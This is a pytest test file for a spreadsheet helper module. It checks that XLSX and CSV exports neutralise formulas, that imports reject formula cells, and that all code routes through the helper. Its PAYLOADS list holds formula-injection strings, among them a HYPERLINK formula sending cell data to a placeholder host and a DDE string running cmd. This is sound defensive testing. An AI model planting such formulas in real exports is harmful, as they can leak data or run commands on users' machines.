"""core.spreadsheet: exports never write a live formula, imports never evaluate one, and no
export bypasses the helper (issue 10, defect 2)."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from xinfeng.core.errors import ValidationFailed
from xinfeng.core.spreadsheet import (
    add_sheet,
    append_row,
    csv_bytes,
    new_workbook,
    read_xlsx_rows,
    workbook_bytes,
)

PAYLOADS = [
    '=HYPERLINK("http://x/?"&C2,"a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_are_text_never_formulas(write_only):
    wb = new_workbook(write_only=write_only)
    ws = add_sheet(wb, "s")
    append_row(ws, ["name", 1])
    for p in PAYLOADS:
        append_row(ws, [p, 2.5])
    append_row(ws, ["bad\x01control\x0bchars", None])
    book = load_workbook(io.BytesIO(workbook_bytes(wb)))
    rows = list(book["s"].iter_rows(min_row=2))
    for p, (cell, num) in zip(PAYLOADS, rows, strict=False):
        assert cell.data_type == "s", p
        assert cell.value in (p, p.replace("\r", "\n"))  # as typed (without lxml, CR reads as LF)
        assert cell.quotePrefix  # and kept as text if someone edits it
        assert num.value == 2.5 and num.data_type == "n"
    assert rows[-1][0].value == "badcontrolchars"


def test_xlsx_plain_text_has_no_quote_prefix():
    wb = new_workbook()
    append_row(add_sheet(wb, "s"), ["张三", "13800000001"])
    cell = load_workbook(io.BytesIO(workbook_bytes(wb)))["s"]["A1"]
    assert cell.value == "张三" and not cell.quotePrefix


def test_csv_fields_are_quoted_with_an_apostrophe():
    data = csv_bytes([["name", "n"], *[[p, 3] for p in PAYLOADS], ["张三", -1]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for p, row in zip(PAYLOADS, rows[1:], strict=False):
        assert row[0] == "'" + p
    assert rows[-1] == ["张三", "-1"]  # numbers are not text a person entered


def _xlsx(rows) -> bytes:
    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_import_refuses_a_formula_cell_naming_it():
    content = _xlsx([["姓名", "手机号"], ["张三", "=1+1"]])
    with pytest.raises(ValidationFailed) as err:
        list(read_xlsx_rows(content))
    assert err.value.code == "formula_cell" and "B2" in str(err.value.detail)


def test_import_reads_text_that_looks_like_a_formula_as_text():
    wb = Workbook()
    ws = wb.active
    ws["A1"] = "=1+1"
    ws["A1"].data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    assert list(read_xlsx_rows(out.getvalue())) == [("=1+1",)]


def test_import_of_garbage_is_a_400():
    with pytest.raises(ValidationFailed) as err:
        read_xlsx_rows(b"PK\x03\x04 not a workbook")
    assert err.value.code == "file_unreadable"


ROOT = Path(__file__).resolve().parents[2] / "xinfeng"
WRITERS = re.compile(
    r"from openpyxl import[^\n]*\bWorkbook\b|openpyxl\.Workbook|csv\.writer|csv\.DictWriter"
    r"|load_workbook"
)


def test_every_spreadsheet_goes_through_core_spreadsheet():
    """A new export or import must use xinfeng.core.spreadsheet, never openpyxl or the csv
    writer directly (that is how the formula injection got in)."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        if path.name == "spreadsheet.py" and path.parent.name == "core":
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == [], "use xinfeng.core.spreadsheet in: " + ", ".join(sorted(offenders))
